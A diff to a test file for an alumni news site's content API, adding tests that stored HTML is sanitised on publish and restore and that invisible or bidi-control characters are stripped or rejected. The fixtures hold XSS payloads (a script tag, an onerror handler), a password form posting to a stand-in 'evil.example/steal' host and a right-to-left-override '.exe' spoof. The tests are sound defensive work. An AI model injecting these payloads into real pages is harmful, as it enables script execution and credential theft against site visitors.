@@ -263,6 +263,38 @@ describe('saving', () => {
     expect((await publicGet(`/api/alumnews/${id}`)).json().data.content).toBe(stored);
   });
 
+  // HTML that reached a row without the sanitiser (an older version, an approval, the database by hand) passes it when
+  // the row goes public, by publishing or by restoring.
+  const hostileHtml =
+    '<p>正文</p><script>window.__xss=1</script><img src=x onerror="window.__xss=2"><form action="https://evil.example/steal"><input name="pw"></form>';
+  const cleaned = '<p>正文</p><img src="/uploads/a.png" loading="lazy" decoding="async">';
+  const written = (kind: string, column: string, id: number) =>
+    suite.server.db.query(`update ${kind} set ${column} = $2 where id = $1`, [id, hostileHtml.replace('src=x', 'src="/uploads/a.png"')]);
+
+  it.each([
+    ['news', 'news', 'content'],
+    ['companies', 'company', 'introduction'],
+    ['jobs', 'job', 'description'],
+  ])('publishing a %s row sanitises the HTML it stored', async (kind, table, column) => {
+    const id = await create(kind);
+    await written(table, column, id);
+    expect((await console_('POST', `/api/admin/content/${kind}/${id}/publish`, {})).statusCode).toBe(200);
+    expect((await publicGet(`${kinds[kind].detail}/${id}`)).json().data[column]).toBe(cleaned);
+  });
+
+  it('restoring a deleted row sanitises the HTML it stored', async () => {
+    const id = await create('news', { publishState: 'published' });
+    await console_('DELETE', `/api/admin/content/news/${id}`);
+    await written('news', 'content', id);
+    expect((await console_('POST', `/api/admin/content/news/${id}/restore`, {})).statusCode).toBe(200);
+    expect((await publicGet(`/api/alumnews/${id}`)).json().data.content).toBe(cleaned);
+  });
+
+  it('keeps titles without the characters that draw nothing', async () => {
+    const id = await create('news', { title: '\ufeff校友\u200b聚会\u200c通知\u2060' });
+    expect((await console_('GET', `/api/admin/content/news/${id}`)).json().data.title).toBe('校友聚会通知');
+  });
+
   it('takes an empty publication time as none: dated now', async () => {
     const id = await create('news', { publishState: 'published', publishedAt: '' });
     expect(Date.now() - Date.parse((await console_('GET', `/api/admin/content/news/${id}`)).json().data.publishedAt)).toBeLessThan(60_000);
@@ -283,6 +315,10 @@ describe('saving', () => {
     ['news', { title: undefined }, 'title'],
     ['news', { cover: 'https://evil.example/a.png' }, 'cover'],
     ['news', { publishState: 'live' }, 'publishState'],
+    ['news', { title: '校友聚会\u202egpj.exe' }, 'title'],
+    ['news', { title: '校友聚会\u2029通知' }, 'title'],
+    ['news', { summary: '摘要\u2066隔离\u2069' }, 'summary'],
+    ['news', { content: '<p>正文\u202d</p>' }, 'content'],
     ['news', { publishedAt: '2026-13-45T00:00:00Z' }, 'publishedAt'],
     ['news', { publishedAt: '2026-12-01T08:00' }, 'publishedAt'],
     ['news', { views: 100 }, 'views'],
